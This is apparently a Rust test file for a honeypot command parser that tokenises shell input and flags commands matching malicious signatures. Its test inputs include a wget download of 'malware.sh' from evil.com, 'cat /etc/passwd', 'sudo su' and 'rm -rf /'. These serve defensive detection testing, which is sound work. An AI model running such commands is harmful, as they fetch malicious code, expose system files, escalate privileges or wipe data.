use honeytrap_deception::CommandParser;

#[test]
fn test_parse_simple_command() {
    let mut parser = CommandParser::new();
    let cmd = parser.parse("ls -la");
    assert_eq!(cmd.name, "ls");
    assert_eq!(cmd.args, vec!["-la"]);
    assert!(!cmd.is_malicious);
}

#[test]
fn test_parse_malicious_command() {
    let mut parser = CommandParser::new();
    let cmd = parser.parse("wget http://evil.com/malware.sh");
    assert_eq!(cmd.name, "wget");
    assert!(cmd.is_malicious);
}

#[test]
fn test_command_history() {
    let mut parser = CommandParser::new();
    parser.parse("ls");
    parser.parse("pwd");
    parser.parse("whoami");

    let stats = parser.get_stats();
    assert_eq!(stats.total_commands, 3);
    assert_eq!(stats.unique_commands, 3);
}

#[test]
fn parse_flags_download_and_not_listing() {
    let mut parser = CommandParser::new();
    let bad = parser.parse("wget http://x/y");
    assert!(bad.is_malicious);
    let good = parser.parse("ls -la");
    assert!(!good.is_malicious);
    assert_eq!(good.name, "ls");
    assert_eq!(good.args, vec!["-la".to_string()]);
}

#[test]
fn parse_blank_line_gives_empty_command() {
    let mut parser = CommandParser::new();
    let cmd = parser.parse("   \t  ");
    assert_eq!(cmd.name, "");
    assert!(cmd.args.is_empty());
    assert_eq!(cmd.raw, "");
    assert!(!cmd.is_malicious);
    assert_eq!(parser.history().len(), 1);
}

#[test]
fn parse_trims_and_splits_on_any_whitespace() {
    let mut parser = CommandParser::new();
    let cmd = parser.parse("  cat\t/etc/passwd   extra \n");
    assert_eq!(cmd.name, "cat");
    assert_eq!(cmd.args, vec!["/etc/passwd".to_string(), "extra".to_string()]);
    assert_eq!(cmd.raw, "cat\t/etc/passwd   extra");
}

#[test]
fn signature_inside_arguments_is_flagged() {
    let mut parser = CommandParser::new();
    assert!(parser.parse("echo hi; sudo su").is_malicious);
    assert!(parser.parse("cat /etc/passwd").is_malicious);
    assert!(!parser.parse("cat /etc/hosts").is_malicious);
}

#[test]
fn history_keeps_arrival_order() {
    let mut parser = CommandParser::new();
    parser.parse("ls");
    parser.parse("rm -rf /");
    parser.parse("pwd");
    let raws: Vec<&str> = parser.history().iter().map(|c| c.raw.as_str()).collect();
    assert_eq!(raws, vec!["ls", "rm -rf /", "pwd"]);
}

#[test]
fn stats_count_malicious_unique_and_most_common() {
    let mut parser = CommandParser::new();
    parser.parse("ls");
    parser.parse("wget http://a/b");
    parser.parse("ls -l");
    parser.parse("pwd");
    let stats = parser.get_stats();
    assert_eq!(stats.total_commands, 4);
    assert_eq!(stats.malicious_commands, 1);
    assert_eq!(stats.unique_commands, 3);
    assert_eq!(stats.most_common, Some("ls".to_string()));
}

#[test]
fn stats_of_empty_history() {
    let parser = CommandParser::new();
    let stats = parser.get_stats();
    assert_eq!(stats.total_commands, 0);
    assert_eq!(stats.unique_commands, 0);
    assert_eq!(stats.most_common, None);
}

#[test]
fn custom_signatures_replace_the_defaults() {
    let mut parser = CommandParser::with_signatures(vec!["nmap".to_string()]);
    assert!(parser.parse("nmap -sS 10.0.0.1").is_malicious);
    assert!(!parser.parse("wget http://x").is_malicious);
}
